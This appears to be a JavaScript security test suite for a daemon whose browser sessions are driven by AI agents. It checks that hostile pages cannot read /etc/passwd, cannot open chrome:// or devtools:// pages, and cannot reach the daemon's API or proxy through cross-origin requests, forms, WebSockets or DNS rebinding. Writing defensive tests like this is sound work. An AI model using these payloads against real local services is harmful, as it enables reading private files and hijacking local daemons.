// SPDX-License-Identifier: Apache-2.0
// A page that attacks whoever shows it: files, the browser's own pages, and each port of the daemon, from its own origin and by
// DNS rebinding. Each attempt says that it ran and what it got; what reached the daemon is in the audit log.
import assert from 'node:assert/strict';
import { once } from 'node:events';
import http from 'node:http';
import { test } from 'node:test';
import { Agent } from '../support/agent.mjs';
import { Daemon, run, until } from '../support/daemon.mjs';
import { Reader } from '../support/events.mjs';
import { Names } from '../support/names.mjs';
import { listens } from '../support/processes.mjs';

const WAIT_MS = 15_000;
const BEGIN = JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'initialize', params: { protocolVersion: '2025-11-25', capabilities: {}, clientInfo: { name: 'page', version: '1' } } });
const ELSEWHERE = '127.0.0.9'; // of two addresses, browsers try 127.0.0.1 first
const REFUSED = ['caller_refused', 'credential_refused', 'request_refused', 'page_refused'];

/** What a page does to an address, as the body of an async function; what it gives is what it got. */
const q = JSON.stringify;
const text = 'const text = async (r) => r.type === "opaque" ? "opaque" : r.status + " " + (await r.text());';
const fetched = (url, how = {}) => `${text} return text(await fetch(${q(url)}, ${q(how)}))`;
const form = (url, type) => `const f = document.createElement('form'); f.method = 'post'; f.enctype = '${type}'; f.action = ${q(url)}; f.target = 'frame';
  const i = document.createElement('input'); i.name = ${q(BEGIN.slice(0, -1))}; i.value = '}'; f.append(i);
  const w = document.createElement('iframe'); w.name = 'frame'; document.body.append(f, w); f.submit();
  await new Promise((done) => { w.onload = done; }); return 'sent'`;
const element = (tag, url) => `const e = document.createElement('${tag}'); e.src = ${q(url)};
  const how = await new Promise((done) => { e.onload = () => done('loaded'); e.onerror = () => done('error'); document.body.append(e); });
  let inside = ''; try { inside = e.contentDocument?.body.innerText ?? '' } catch { } return how + ' ' + inside`;
const opens = (what) => `const s = ${what}; return new Promise((done) => { s.onopen = () => done('open'); s.onmessage = (m) => done('open ' + m.data); s.onerror = () => { s.close(); done('error') } })`;

/** By any origin, to the origin `at` ("http://host:port") of a daemon. */
const onDaemon = (at) => ({
  'fetch': fetched(`${at}/api/sessions`),
  'fetch with credentials': fetched(`${at}/api/sessions`, { credentials: 'include' }),
  'fetch no-cors': fetched(`${at}/api/keys`, { mode: 'no-cors' }),
  'fetch no-cors post': fetched(`${at}/mcp`, { method: 'POST', mode: 'no-cors', body: BEGIN }),
  'fetch json': fetched(`${at}/mcp`, { method: 'POST', headers: { 'content-type': 'application/json', accept: 'application/json, text/event-stream' }, body: BEGIN }),
  'fetch with a token': fetched(`${at}/api/stop-all`, { method: 'POST', headers: { 'content-type': 'application/json', authorization: 'Bearer guess' }, body: '{}' }),
  'fetch put': fetched(`${at}/api/policy/default`, { method: 'PUT', headers: { 'content-type': 'application/json' }, body: '{}' }),
  'form': form(`${at}/mcp`, 'application/x-www-form-urlencoded'),
  'form text': form(`${at}/mcp`, 'text/plain'),
  'form multipart': form(`${at}/api/stop-all`, 'multipart/form-data'),
  'beacon': `return String(navigator.sendBeacon(${q(`${at}/api/stop-all`)}, '{}'))`,
  'image': element('img', `${at}/metrics`),
  'script': element('script', `${at}/api/sessions`),
  'frame': element('iframe', `${at}/api/sessions`),
  'event source': opens(`new EventSource(${q(`${at}/api/events`)})`),
  'event source with credentials': opens(`new EventSource(${q(`${at}/api/events`)}, { withCredentials: true })`),
  'web socket': opens(`new WebSocket(${q(`${at.replace('http', 'ws')}/api/events`)})`),
  'web socket with a token': opens(`new WebSocket(${q(`${at.replace('http', 'ws')}/api/events`)}, ['bearer', 'guess'])`),
  'worker': `const w = new Worker(URL.createObjectURL(new Blob([${q(`fetch('${at}/api/sessions').then(async (r) => r.status + ' ' + await r.text()).then(postMessage, () => postMessage('error'))`)}])));
    return new Promise((done) => { w.onmessage = (m) => done(m.data) })`,
});

const onProxy = (at) => ({
  'fetch': fetched(`${at}/health`),
  'fetch no-cors': fetched(`${at}/`, { mode: 'no-cors', method: 'POST', body: 'CONNECT 127.0.0.1:80 HTTP/1.1\r\n\r\n' }),
  'fetch with a token': fetched(`${at}/`, { headers: { authorization: 'Basic Z3Vlc3M6Z3Vlc3M=' } }),
  'form': form(`${at}/`, 'text/plain'),
  'web socket': opens(`new WebSocket(${q(`${at.replace('http', 'ws')}/`)})`),
  'frame': element('iframe', `${at}/`),
});

const LOCAL = ['file:///etc/passwd', 'file://localhost/etc/passwd', 'FILE:/etc/passwd', 'view-source:file:///etc/passwd', 'filesystem:file:///etc/passwd',
  'chrome://version/', 'chrome://settings/', 'chrome-untrusted://print/', 'devtools://devtools/bundled/inspector.html', 'view-source:chrome://version', 'about:version'];

const onBrowser = Object.fromEntries(LOCAL.flatMap((url) => [
  [`location ${url}`, `setTimeout(() => { location.href = ${q(url)}; }, 20); return 'clicked'`],
  [`window ${url}`, `const w = window.open(${q(url)}); await new Promise((done) => setTimeout(done, 50)); let at = 'none'; try { at = w.document.body.innerText } catch { } return at`],
  [`link ${url}`, `const a = document.createElement('a'); a.href = ${q(url)}; a.download = 'x'; document.body.append(a); a.click(); return 'clicked'`],
  [`fetch ${url}`, fetched(url)],
  [`xhr ${url}`, `const x = new XMLHttpRequest(); x.open('GET', ${q(url)}, false); x.send(); return x.responseText`],
  [`frame ${url}`, `const e = document.createElement('iframe'); e.src = ${q(url)}; document.body.append(e); await new Promise((done) => { e.onload = e.onerror = done; setTimeout(done, 100) });
    let at = 'none'; try { at = e.contentDocument.body.innerText } catch { } return at`],
]));

/** A site whose every page runs the attack of the moment and tells `home`, a site that stays, what it got. */
class Attacker {
  static async start(t, { port = 0, address = '127.0.0.1', home } = {}) {
    const attacker = new Attacker();
    attacker.server = http.createServer((req, res) => attacker.answer(req, res)).listen(port, address);
    await once(attacker.server, 'listening');
    attacker.at = `http://${address}:${attacker.server.address().port}`;
    attacker.home = home ?? attacker;
    t.after(() => attacker.leave());
    return attacker;
  }

  leave() {
    this.server.closeAllConnections();
    return new Promise((done) => { this.server.close(done); });
  }

  answer(req, res) {
    const { pathname } = new URL(req.url, 'http://x');
    if (pathname === '/got') {
      let body = '';
      req.on('data', (data) => { body += data; }).on('end', () => {
        this.got = body;
        res.writeHead(204).end();
      });
    } else if (pathname === '/begin') {
      this.begin().then(() => res.writeHead(204).end());
    } else if (pathname === '/attack') {
      res.writeHead(200, { 'content-type': 'text/html', connection: 'close' }).end(`<!doctype html><title>attack</title><link rel=icon href="data:,"><body><script>(async () => {
        ${this.home === this ? '' : `await fetch('${this.home.at}/begin', { mode: 'no-cors' });`}
        ${this.home.code} })().catch((e) => 'error ' + e).then((got) => fetch('${this.home.at}/got', { method: 'POST', mode: 'no-cors', body: String(got) }))</script>`);
    } else {
      res.writeHead(404).end();
    }
  }
}

async function setup(t, how) {
  const daemon = await Daemon.start(t, how);
  const agent = await Agent.connect(t, daemon, undefined, { groups: 'all' });
  const events = await Reader.open(t, daemon, { unix: true });
  await agent.call('start_session', { sessionId: 'bystander' });
  return { daemon, agent, events };
}

const refusals = (events) => events.events.filter((text) => REFUSED.includes(JSON.parse(text).type)).length;
const sessionsOf = async (daemon) => JSON.parse((await daemon.request('/api/sessions', { unix: true })).text).sessions.map((one) => one.sessionId).sort();

/** Lets the page run one attempt; gives what it got. */
async function attempt(agent, session, attacker, code, url = `${attacker.at}/attack`) {
  attacker.got = undefined;
  attacker.code = code;
  const reply = await agent.raw('browser_navigate', { sessionId: session, url, timeout_ms: 5000 });
  await until(() => attacker.got !== undefined, WAIT_MS, `the page says what it got of: ${code} ${JSON.stringify(reply)}`);
  return attacker.got;
}

/** Nothing but what anybody may know: no content, no stream, no answer that says yes. */
const nothing = (got) => /^(error|opaque|sent|true|loaded $|loaded \{"error":|40[137] |421 )/.test(got);

async function attack({ agent, events }, session, attacker, attempts, what) {
  for (const [name, code] of Object.entries(attempts)) {
    const before = refusals(events);
    const got = await attempt(agent, session, attacker, code);
    assert.ok(nothing(got), `${what}, ${name}: ${got}`);
    await until(() => refusals(events) > before, WAIT_MS, `${what}, ${name} is told`);
  }
}

/** Nothing has changed, and what was told is on the audit log as well. */
async function expectUnharmed({ daemon, agent, events }, sessions) {
  assert.deepEqual(await sessionsOf(daemon), sessions);
  assert.match(await agent.call('browser_evaluate', { sessionId: 'bystander', script: '6 * 7' }), /42/);
  const told = refusals(events);
  daemon.child.kill('SIGTERM');
  await daemon.exited;
  const { stdout } = await run(['audit', 'export', '--state-dir', daemon.stateDir]);
  const entries = stdout.trim().split('\n').map((line) => JSON.parse(line)).filter((entry) => REFUSED.includes(entry.type));
  assert.ok(entries.length >= told, `${entries.length} entries of ${told} refusals`);
}

test('NET-1 NET-2: a hostile page reads no files and opens none of the browser\'s own pages', { timeout: 300_000 }, async (t) => {
  const world = await setup(t);
  const attacker = await Attacker.start(t);
  for (const [session, policy] of [['open', undefined], ['ruled', { allow_domains: ['127.0.0.1'] }]]) {
    await world.agent.call('start_session', { sessionId: session, ...(policy ? { policy } : {}) });
    for (const [name, code] of Object.entries(onBrowser).filter(([each]) => !policy || /^(location|window)/.test(each))) {
      const got = await attempt(world.agent, session, attacker, code);
      assert.match(got, /^(error|none|clicked|about:blank|$|http:\/\/127\.0\.0\.1:\d+\/attack$)/, `${session}, ${name}: ${got.slice(0, 300)}`);
      const seen = await world.agent.raw('browser_evaluate', { sessionId: session, script: 'new Promise((done) => setTimeout(() => done(location.href + document.body?.innerText), 50))' });
      assert.doesNotMatch(JSON.stringify(seen), /root:|Chromium\t|file:\/|chrome(-untrusted)?:|devtools:/i, name);
      const tabs = JSON.stringify(await world.agent.raw('browser_tabs', { sessionId: session, action: 'list' }));
      assert.doesNotMatch(tabs, /file:|chrome:|chrome-untrusted:|devtools:/i, name);
    }
    assert.doesNotMatch(await world.agent.call('browser_downloads', { sessionId: session }), /passwd|root:/);
  }
  await expectUnharmed(world, ['bystander', 'open', 'ruled']);
});

test('NET-1 NET-4: a hostile page gets nothing from the daemon from its own origin, with and without a policy', { timeout: 300_000 }, async (t) => {
  const world = await setup(t);
  const { daemon, agent } = world;
  const attacker = await Attacker.start(t);
  const own = await attempt(agent, 'bystander', attacker, fetched(`${attacker.at}/none`));
  assert.ok(!nothing(`200 ${own}`) && own === '404 ', `what a page may read is read: ${own}`);
  const proxies = () => listens(daemon.child.pid).filter((port) => port !== daemon.port);
  for (const [session, policy] of [['open', undefined], ['ruled', { allow_domains: ['127.0.0.1', 'localhost'] }]]) {
    await agent.call('start_session', { sessionId: session, ...(policy ? { policy } : {}) });
    for (const host of ['127.0.0.1', 'localhost']) {
      await attack(world, session, attacker, onDaemon(`http://${host}:${daemon.port}`), `${session} on ${host}`);
    }
  }
  assert.ok(proxies().length >= 2, 'the door of agents and the one of the proxy');
  for (const port of proxies()) await attack(world, 'ruled', attacker, onProxy(`http://127.0.0.1:${port}`), `port ${port}`);
  for (const port of proxies()) {
    for (const [name, code] of Object.entries(onProxy(`http://127.0.0.1:${port}`))) {
      const got = await attempt(agent, 'open', attacker, code);
      assert.ok(nothing(got), `port ${port}, ${name}: ${got}`);
    }
  }
  await expectUnharmed(world, ['bystander', 'open', 'ruled']);
});

/**
 * The name has the address of the attacker until its page is loaded, then the daemon's. A browser without our proxy keeps the first answer, so it
 * gets both at once and goes to the second address when nobody listens at the first any more. With our proxy (see egress.test.mjs for other
 * addresses) no page comes from a port that is the daemon's at any address of this machine.
 */
test('NET-1 NET-4: a hostile page gets nothing from the daemon by rebinding its name', { timeout: 300_000 }, async (t) => {
  const names = await Names.make(t);
  if (!names) return t.skip('no resolver of the test\'s own can be mounted here');
  const world = await setup(t, { disk: names, args: ['--listen', `${ELSEWHERE}:0`, '--agent-listen', `${ELSEWHERE}:0`] });
  const { daemon, agent, events } = world;
  const home = await Attacker.start(t);
  const agentPort = listens(daemon.child.pid, ELSEWHERE).find((port) => port !== daemon.port);
  names.at.set('rebind.test', () => ['127.0.0.1', ELSEWHERE]);
  await agent.call('start_session', { sessionId: 'open' });
  for (const [port, attempts] of [[daemon.port, onDaemon], [agentPort, onProxy]]) {
    for (const [name, code] of Object.entries(attempts(`http://rebind.test:${port}`))) {
      const attacker = await Attacker.start(t, { port, home });
      home.begin = () => attacker.leave();
      const before = refusals(events);
      const got = await attempt(agent, 'open', home, code, `http://rebind.test:${port}/attack`);
      assert.ok(nothing(got), `${name}: ${got}`);
      await until(() => refusals(events) > before, WAIT_MS, `${name} is told`);
    }
  }
  await agent.call('start_session', { sessionId: 'ruled', policy: { allow_domains: ['rebind.test'] } });
  for (const port of [daemon.port, agentPort]) {
    for (const address of ['127.0.0.1', ELSEWHERE]) {
      names.at.set('rebind.test', () => [address]);
      const before = refusals(events);
      const reply = await agent.raw('browser_navigate', { sessionId: 'ruled', url: `http://rebind.test:${port}/attack` });
      assert.match(JSON.stringify(reply), /is the daemon itself, which pages in its browsers may not reach/);
      await until(() => refusals(events) > before, WAIT_MS, `${address}:${port} is told`);
    }
  }
  return expectUnharmed(world, ['bystander', 'open', 'ruled']);
});
